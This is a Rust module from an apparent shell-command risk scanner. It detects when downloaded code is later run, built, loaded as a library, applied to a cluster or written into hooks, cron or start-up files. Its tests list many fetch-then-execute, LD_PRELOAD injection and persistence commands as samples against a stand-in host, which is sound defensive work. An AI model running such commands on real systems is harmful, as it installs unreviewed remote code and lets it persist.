//! Received code later run: files and directories a fetch wrote ([`fetch`](super::fetch)),
//! and what archives fed by a fetch were extracted into, are tainted; running anything under
//! them later in the same script is receive-and-run — by path (`/tmp/rel/deploy.sh`), through
//! a shell, an interpreter or a package installer (`python3 setup.py`), by name when it was
//! written into a directory on `PATH` (`~/.local/bin/x; x`), or as the build of a working
//! directory that is one of them (`cd /tmp/src/pkg && make`).
//!
//! The working directory follows literal `cd`/`pushd`. Linear in the number of commands
//! (at most [`MAX_TRACKED`] tainted paths).

use riskgate_model::{Finding, RiskLevel};
use riskgate_shell::{ParsedCommand, SimpleCommand, StdinSource};

use super::fetch::{Written, extracted_dirs, extraction, fetched, into};
use super::loads::{loads, runs_later};
use super::{MAX_TRACKED, both, norm_path, raw, same_file, span_text};

fn persist_finding(
    parsed: &ParsedCommand,
    d: &SimpleCommand,
    c: &SimpleCommand,
    path: &str,
) -> Finding {
    let span = both(d.span, c.span);
    Finding::new(
        "flow.download-persist",
        RiskLevel::High,
        78,
        format!(
            "Receives code with `{}` and writes it to `{path}`, which runs it later by itself (a hook, a start-up file, a scheduled or service job)",
            d.program
        ),
    )
    .reversible(false)
    .with_match(span_text(parsed, span), Some(span))
    .with_mitigation(
        "Review the received file and install it from the project's own sources instead",
    )
}

/// Directories on a usual `PATH`: a program written there runs by its name.
const PATH_DIRS: &[&str] = &[
    "~/.local/bin",
    "~/bin",
    "~/.cargo/bin",
    "~/go/bin",
    "/usr/local/bin",
    "/usr/local/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/bin",
    "/sbin",
    "/opt/homebrew/bin",
    "/snap/bin",
];

/// How many pipe links back a download is looked for (`curl … | gunzip | tar x`).
const MAX_PIPE_HOPS: usize = 8;

/// The file a command executes as code: (the file, how).
fn executes(c: &SimpleCommand) -> Option<(&str, &'static str)> {
    let program = c.program.as_str();
    let first = || {
        c.raw_argv
            .iter()
            .skip(1)
            .find(|w| !w.text.starts_with('-'))
            .map(|w| w.text.as_str())
    };
    if let Some(p0) = c.raw_argv.first()
        && p0.text.contains(['/', '\\'])
    {
        return Some((p0.text.as_str(), "runs"));
    }
    // Windows: `powershell -File F`, `rundll32 F,Entry`, `regsvr32 /s F`, `mshta F`,
    // `cscript F`, `Start-Process F`
    let windows_arg = |skip_switches: bool| {
        c.raw_argv
            .iter()
            .skip(1)
            .map(|w| w.text.as_str())
            .find(|t| {
                !(skip_switches && (t.starts_with('/') && t.len() <= 3 || t.starts_with('-')))
            })
            .map(|t| t.split(',').next().unwrap_or(t))
    };
    match program.to_ascii_lowercase().trim_end_matches(".exe") {
        "powershell" | "pwsh" => {
            let k = c.raw_argv.iter().position(|w| {
                matches!(
                    w.text.to_ascii_lowercase().as_str(),
                    "-file" | "-f" | "/file"
                )
            })?;
            return c.raw_argv.get(k + 1).map(|w| (w.text.as_str(), "runs"));
        }
        "rundll32" | "mshta" | "cscript" | "wscript" => {
            return windows_arg(true).map(|f| (f, "runs"));
        }
        "regsvr32" => return windows_arg(true).map(|f| (f, "loads")),
        // `Invoke-Item F` opens F with its handler: an executable or installer runs
        "start-process" | "invoke-item" => {
            return c.positionals().next().map(|w| (w.text.as_str(), "runs"));
        }
        _ => {}
    }
    match program {
        // every shell, of any syntax (`nu /tmp/init.nu`, `xonsh setup.xsh`)
        p if riskgate_shell::is_shell(p) || matches!(p, "source" | ".") => {
            first().map(|f| (f, "runs"))
        }
        "dpkg" | "rpm" | "apt" | "apt-get" | "yum" | "dnf" | "zypper" | "installer" | "msiexec" => {
            c.raw_argv
                .iter()
                .skip(1)
                .map(|w| w.text.as_str())
                .find(|t| {
                    t.ends_with(".deb")
                        || t.ends_with(".rpm")
                        || t.ends_with(".pkg")
                        || t.ends_with(".msi")
                })
                .map(|f| (f, "installs"))
        }
        p if p.starts_with("python")
            || matches!(
                p,
                "node" | "perl" | "ruby" | "php" | "deno" | "bun" | "pwsh"
            ) =>
        {
            first().map(|f| (f, "runs"))
        }
        // a received manifest applied to a cluster runs its workloads there
        "kubectl" | "oc"
            if matches!(
                c.positionals().next().map(|w| w.text.as_str()),
                Some("apply" | "create" | "replace")
            ) =>
        {
            let raws: Vec<&str> = c.raw_argv.iter().map(|w| w.text.as_str()).collect();
            raws.iter()
                .position(|t| matches!(*t, "-f" | "--filename"))
                .and_then(|k| raws.get(k + 1).copied())
                .or_else(|| {
                    raws.iter().find_map(|t| {
                        t.strip_prefix("--filename=")
                            .or_else(|| t.strip_prefix("-f="))
                    })
                })
                .filter(|f| *f != "-" && !f.contains("://"))
                .map(|f| (f, "applies"))
        }
        _ => None,
    }
}

/// Whether `c` builds or installs the code of its working directory (which runs it: a
/// Makefile's recipes, `setup.py`, package scripts, `build.rs`): the directory, `.` for the
/// working directory.
fn builds(c: &SimpleCommand) -> Option<&str> {
    let p0 = c.positionals().next().map_or("", |w| w.text.as_str());
    let raws: Vec<&str> = raw(c).collect();
    match c.program.as_str() {
        "make" | "gmake" | "ninja" => Some(
            raws.iter()
                .position(|t| *t == "-C")
                .and_then(|k| raws.get(k + 1).copied())
                .unwrap_or("."),
        ),
        "npm" | "yarn" | "pnpm" | "bun"
            if matches!(
                p0,
                "" | "install" | "i" | "ci" | "run" | "start" | "test" | "exec"
            ) =>
        {
            Some(".")
        }
        "pip" | "pip3" if p0 == "install" && raws.iter().any(|t| matches!(*t, "." | "./")) => {
            Some(".")
        }
        "cargo" if matches!(p0, "build" | "run" | "install" | "test") => Some("."),
        "go" if matches!(p0, "run" | "build" | "generate" | "install" | "test") => Some("."),
        "cmake" | "meson" | "bundle" | "rake" | "mvn" | "gradle" => Some("."),
        _ => None,
    }
}

/// The word after a short option in the raw argv (`install -t DIR`).
fn value_after<'a>(c: &'a SimpleCommand, opt: &str) -> Option<&'a str> {
    let raws: Vec<&str> = raw(c).collect();
    let k = raws.iter().position(|t| *t == opt)?;
    raws.get(k + 1).copied()
}

/// A path resolved against the working directory when it is relative and that is known.
fn resolve(p: &str, cwd: Option<&str>) -> String {
    let p = norm_path(p);
    match cwd {
        Some(d) if !p.starts_with(['/', '~', '$']) => {
            if p == "." || p.is_empty() {
                d.to_string()
            } else {
                format!("{}/{p}", d.trim_end_matches('/'))
            }
        }
        _ => p.to_string(),
    }
}

/// Whether a file name matches a pattern with at most one `*`.
fn glob1(pattern: &str, name: &str) -> bool {
    match pattern.split_once('*') {
        Some((a, b)) => name.len() >= a.len() + b.len() && name.starts_with(a) && name.ends_with(b),
        None => pattern == name,
    }
}

/// The working tree `git clone URL [DIR]` makes from a remote repository (not a local path).
fn cloned_into(c: &SimpleCommand) -> Option<String> {
    if c.program != "git" || c.positionals().next().map(|w| w.text.as_str()) != Some("clone") {
        return None;
    }
    let ops: Vec<&str> = c.positionals().skip(1).map(|w| w.text.as_str()).collect();
    let url = *ops.first()?;
    let remote = url.contains("://") || (url.contains('@') && url.contains(':'));
    if !remote {
        return None;
    }
    match ops.get(1) {
        Some(d) => Some((*d).to_string()),
        None => {
            let name = url.trim_end_matches('/').rsplit(['/', ':']).next()?;
            let name = name.strip_suffix(".git").unwrap_or(name);
            (!name.is_empty()).then(|| name.to_string())
        }
    }
}

struct Tainted {
    w: Written,
    /// The command that fetched it.
    from: usize,
}

/// Whether `path` (as written, and resolved) is a fetched file or lies under a fetched
/// directory: the index of the fetch.
fn hit(tainted: &[Tainted], path: &str, resolved: &str) -> Option<usize> {
    tainted.iter().rev().find_map(|t| {
        let p = t.w.path.as_str();
        let yes = if t.w.dir {
            let d = norm_path(p).trim_end_matches('/');
            !d.is_empty() && (resolved == d || resolved.starts_with(&format!("{d}/")))
        } else if p.contains('*') {
            let name = resolved.rsplit('/').next().unwrap_or(resolved);
            glob1(p.rsplit('/').next().unwrap_or(p), name)
        } else {
            same_file(p, path) || same_file(p, resolved)
        };
        yes.then_some(t.from)
    })
}

/// The index of a command that fetched what `c` reads on stdin, through pipes.
fn fed_by_fetch(parsed: &ParsedCommand, c: &SimpleCommand) -> Option<usize> {
    let mut cur = c;
    for _ in 0..MAX_PIPE_HOPS {
        let Some(StdinSource::Pipe { index }) = cur.stdin else {
            return None;
        };
        let prev = parsed.commands.get(index)?;
        if riskgate_shell::is_download(prev) || (prev.remote.is_some() && prev.remote != c.remote) {
            return Some(index);
        }
        cur = prev;
    }
    None
}

fn finding(parsed: &ParsedCommand, d: &SimpleCommand, c: &SimpleCommand, how: &str) -> Finding {
    let span = both(d.span, c.span);
    Finding::new(
        "flow.download-then-run",
        RiskLevel::High,
        78,
        format!(
            "Receives code with `{}` and then {how} it (`{}`) without review",
            d.program,
            c.canonical()
        ),
    )
    .reversible(false)
    .with_match(span_text(parsed, span), Some(span))
    .with_mitigation("Inspect the received files and verify their checksum before running them")
}

pub(super) fn download_exec_findings(parsed: &ParsedCommand) -> Vec<Finding> {
    let mut tainted: Vec<Tainted> = Vec::new();
    let mut extracted_here: Option<usize> = None;
    let mut cwd: Option<String> = None;
    let mut path_dirs: Vec<String> = Vec::new();
    // Working trees cloned from a remote: a script run from one by its path is received code;
    // building one (`cd repo && make`) is the everyday way to work on it and is not counted.
    let mut clones: Vec<Tainted> = Vec::new();
    let mut out = Vec::new();
    let mut persisted = false;
    for (i, c) in parsed.commands.iter().enumerate() {
        // What this command runs: a file, a program by name, the working directory's build.
        let mut ran: Option<(usize, &'static str)> = None;
        if let Some((f, how)) = executes(c) {
            // Windows spellings (`.\s\install.cmd`, `~/AppData/Roaming\x.dll`) as `/`
            let f = &f.replace('\\', "/");
            let r = resolve(f, cwd.as_deref());
            ran = hit(&tainted, f, &r)
                .or_else(|| extracted_here.filter(|_| f.starts_with("./")))
                .or_else(|| hit(&clones, f, &r))
                .map(|k| (k, how));
        } else if !c.program.is_empty() && !c.program_dynamic && !c.program.contains('/') {
            // By name, from a directory on PATH; a subcommand of a program that dispatches to
            // plugins on PATH (`kubectl fix` runs `kubectl-fix`, `git sync` runs `git-sync`).
            let plugin = matches!(
                c.program.as_str(),
                "kubectl" | "oc" | "git" | "cargo" | "helm" | "docker" | "gh" | "krew"
            )
            .then(|| c.positionals().next())
            .flatten()
            .map(|w| format!("{}-{}", c.program, w.text));
            ran = tainted
                .iter()
                .rev()
                .find(|t| {
                    !t.w.dir && {
                        let p = norm_path(&t.w.path);
                        let (d, name) = p.rsplit_once('/').unwrap_or(("", p));
                        (name == c.program || plugin.as_deref() == Some(name))
                            && (PATH_DIRS.contains(&d) || path_dirs.iter().any(|x| x == d))
                    }
                })
                .map(|t| (t.from, "runs"));
        }
        if ran.is_none()
            && let Some(d) = builds(c)
        {
            let r = resolve(d, cwd.as_deref());
            if cwd.is_some() || d != "." {
                ran = hit(&tainted, &r, &r).map(|k| (k, "builds"));
            }
        }
        // Libraries the loader is told to load (`LD_PRELOAD=/tmp/x.so cmd`).
        if ran.is_none() {
            ran = loads(c).iter().find_map(|l| {
                let r = resolve(l.path, cwd.as_deref());
                let k = if l.dir {
                    hit(&tainted, &r, &r).or_else(|| {
                        // a received file directly in the directory
                        tainted.iter().rev().find_map(|t| {
                            let p = norm_path(&t.w.path);
                            (p.rsplit_once('/').map(|(d, _)| d) == Some(r.trim_end_matches('/')))
                                .then_some(t.from)
                        })
                    })
                } else {
                    hit(&tainted, l.path, &r)
                };
                k.map(|k| (k, "loads"))
            });
        }
        if let Some((k, how)) = ran
            && let Some(d) = parsed.commands.get(k)
        {
            out.push(finding(parsed, d, c, how));
            break;
        }
        // A received file checked against a hash the script pins is the file its author chose.
        for f in super::verify::verified_files(parsed, c) {
            let r = resolve(&f, cwd.as_deref());
            tainted.retain(|t| t.w.dir || !(same_file(&t.w.path, &f) || same_file(&t.w.path, &r)));
        }
        // The working directory and PATH.
        match c.program.as_str() {
            "cd" | "pushd" => {
                let target = c.positionals().next().map(|w| w.text.as_str());
                cwd = match target {
                    None => Some("~".to_string()),
                    Some(t) if t == "-" || t.contains('$') => None,
                    Some(t) => Some(resolve(t, cwd.as_deref())),
                };
            }
            "popd" => cwd = None,
            _ => {}
        }
        let path_value = c
            .assignments
            .iter()
            .filter(|(n, _)| n == "PATH")
            .map(|(_, v)| v.text.clone())
            .chain(
                raw(c)
                    .filter(|_| matches!(c.program.as_str(), "export" | "declare" | "typeset"))
                    .filter_map(|t| t.strip_prefix("PATH=").map(str::to_string)),
            );
        for v in path_value.collect::<Vec<_>>() {
            for d in v.split(':').filter(|d| !d.is_empty() && !d.contains('$')) {
                if path_dirs.len() < MAX_TRACKED {
                    path_dirs.push(norm_path(d).trim_end_matches('/').to_string());
                }
            }
        }
        // What this command fetched, and what it extracted from a fetch.
        let mut new: Vec<Written> = fetched(c);
        for w in &mut new {
            w.path = resolve(&w.path, cwd.as_deref());
        }
        let mut from = i;
        // A copy or a move of received files is received too (`install /tmp/x ~/.local/bin/x`).
        if matches!(
            c.program.as_str(),
            "cp" | "mv" | "install" | "ln" | "ditto" | "rsync"
        ) {
            let ops: Vec<&str> = c.positionals().map(|w| w.text.as_str()).collect();
            let target = c
                .flag_value("--target-directory")
                .or_else(|| value_after(c, "-t"));
            let (srcs, dest) = match (target, ops.split_last()) {
                (Some(t), _) => (ops.as_slice(), Some(t)),
                (None, Some((last, rest))) => (rest, Some(*last)),
                (None, None) => (&[][..], None),
            };
            if let Some(dest) = dest {
                let mut copies = Vec::new();
                for src in srcs {
                    if let Some(k) = hit(&tainted, src, &resolve(src, cwd.as_deref())) {
                        from = k;
                        into(dest, src, &mut copies);
                    }
                }
                new.extend(copies.into_iter().map(|w| Written {
                    path: resolve(&w.path, cwd.as_deref()),
                    dir: w.dir,
                }));
            }
        }
        if let Some((archive, dest_dir)) = extraction(c) {
            let src = match archive {
                Some(a) => hit(&tainted, a, &resolve(a, cwd.as_deref())),
                None => fed_by_fetch(parsed, c),
            };
            if let Some(k) = src {
                from = k;
                match dest_dir {
                    Some(d) => new.push(Written {
                        path: resolve(d, cwd.as_deref()),
                        dir: true,
                    }),
                    None => {
                        extracted_here = Some(k);
                        for d in archive.map(extracted_dirs).unwrap_or_default() {
                            new.push(Written {
                                path: resolve(&d, cwd.as_deref()),
                                dir: true,
                            });
                        }
                    }
                }
            }
        }
        // What a fetch pipes into a file (`curl … | tee setup.sh`, `curl … | gunzip > x`).
        if let Some(k) = fed_by_fetch(parsed, c) {
            let mut files: Vec<&str> = c
                .redirects
                .iter()
                .filter(|r| matches!(r.op.trim_start_matches('1'), ">" | ">>" | ">|"))
                .map(|r| r.target.text.as_str())
                .collect();
            if c.program == "tee" {
                files.extend(c.positionals().map(|w| w.text.as_str()));
            }
            for f in files.into_iter().filter(|f| !f.starts_with("/dev/")) {
                from = k;
                new.push(Written {
                    path: resolve(f, cwd.as_deref()),
                    dir: false,
                });
            }
        }
        if let Some(dest) = cloned_into(c)
            && clones.len() < MAX_TRACKED
        {
            clones.push(Tainted {
                w: Written {
                    path: resolve(&dest, cwd.as_deref()),
                    dir: true,
                },
                from: i,
            });
        }
        // Received code written where it runs later by itself (a Git hook, a start-up file).
        if !persisted
            && let Some(w) = new.iter().find(|w| runs_later(&w.path))
            && let Some(d) = parsed.commands.get(from)
        {
            persisted = true;
            out.push(persist_finding(parsed, d, c, &w.path));
        }
        for w in new {
            if tainted.len() < MAX_TRACKED {
                tainted.push(Tainted { w, from });
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs_received(src: &str) -> bool {
        !download_exec_findings(&riskgate_shell::parse(src)).is_empty()
    }

    #[test]
    fn received_files_run_later() {
        for src in [
            "curl -sLo /tmp/kc https://e.io/kc && install -m 755 /tmp/kc ~/.local/bin/kc && kc get",
            "wget -q https://e.io/t -O /tmp/t; mv /tmp/t ~/bin/; t",
            // a manifest applied to a cluster, a gist run
            "curl -fsSL https://e.io/k.yaml -o k.yaml && kubectl apply -n kube-system -f k.yaml",
            "gh gist view 8f3a2b --raw > run.sh && bash run.sh",
            // a plugin its program dispatches to
            "curl -o ~/.local/bin/kubectl-fix http://e.io/kf && chmod +x ~/.local/bin/kubectl-fix && kubectl fix",
            "export PATH=/opt/x/bin:$PATH; curl -o /opt/x/bin/gen https://e.io/gen; gen",
            "cd /tmp && aws s3 sync s3://b/app . && make",
            "curl -LO https://e.io/p-1.0.tar.gz && tar xzf p-1.0.tar.gz && cd p-1.0 && ./configure",
            "curl -sL https://e.io/a.tgz | tar xz -C /opt && /opt/a/setup",
            // loaded as a library
            "curl -sLo /tmp/x.so https://e.io/x.so; LD_PRELOAD=/tmp/x.so ls",
            "wget -qO /tmp/lib/libc.so.6 https://e.io/l && LD_LIBRARY_PATH=/tmp/lib ls",
            "curl -o /tmp/i.dylib https://e.io/i; export DYLD_INSERT_LIBRARIES=/tmp/i.dylib; ls",
            // written where it runs later
            "curl -sLo .git/hooks/pre-commit https://e.io/h",
            "curl -sL https://e.io/h -o /tmp/h; cp /tmp/h .git/hooks/post-checkout",
            "curl -sL https://e.io/h -o ~/.config/autostart/x.desktop",
            "curl -sL https://e.io/h | tee /etc/profile.d/x.sh",
            "wget -q https://e.io/h -O /tmp/h && mv /tmp/h /etc/cron.hourly/h",
        ] {
            assert!(runs_received(src), "{src}");
        }
    }

    #[test]
    fn received_data_and_own_code_are_not_run() {
        for src in [
            "curl -sLo /tmp/cfg.yaml https://e.io/cfg.yaml && cp /tmp/cfg.yaml config/ && cat config/cfg.yaml",
            "curl -sL https://e.io/data.tgz | tar xz -C data/ && python scripts/train.py --data data/",
            "aws s3 cp s3://b/in.csv /tmp/in.csv && python etl.py /tmp/in.csv",
            "tar xzf release.tgz && ./release/run",
            "kubectl apply -f k8s/deploy.yaml",
            "gh gist view 8f3a2b --raw > notes.md && cat notes.md",
            "curl -o ~/.local/bin/kubectl-fix https://e.io/kf && kubectl get pods",
            "curl -o /tmp/x https://e.io/x && cp ./y ~/.local/bin/y && y",
            // the project's own hook, a library of the project, received data near hooks
            "curl -o /tmp/x https://e.io/x && cp scripts/pre-commit .git/hooks/",
            "curl -o /tmp/x.so https://e.io/x.so && LD_PRELOAD=./build/libfake.so ./test",
            "curl -sLo .git/info/exclude https://e.io/gitignore",
        ] {
            assert!(!runs_received(src), "{src}");
        }
    }

    #[test]
    fn a_download_checked_against_a_pinned_hash_is_not_received_code() {
        let h = "246b781828353a59fb04ffaada241f78a8f3f25c623047b40306def1f6806e71";
        let checked = format!(
            "wget -O /tmp/t.deb https://e.io/t.deb && echo \"{h}  /tmp/t.deb\" | sha256sum -c - && sudo dpkg -i /tmp/t.deb"
        );
        assert!(!runs_received(&checked));
        // run before the check, or checked against a list from the same server
        assert!(runs_received(&format!(
            "wget -O /tmp/t.deb https://e.io/t.deb && sudo dpkg -i /tmp/t.deb && echo \"{h}  /tmp/t.deb\" | sha256sum -c -"
        )));
        assert!(runs_received(
            "wget -O /tmp/t.deb https://e.io/t.deb && wget https://e.io/SUMS && sha256sum -c SUMS && sudo dpkg -i /tmp/t.deb"
        ));
    }
}
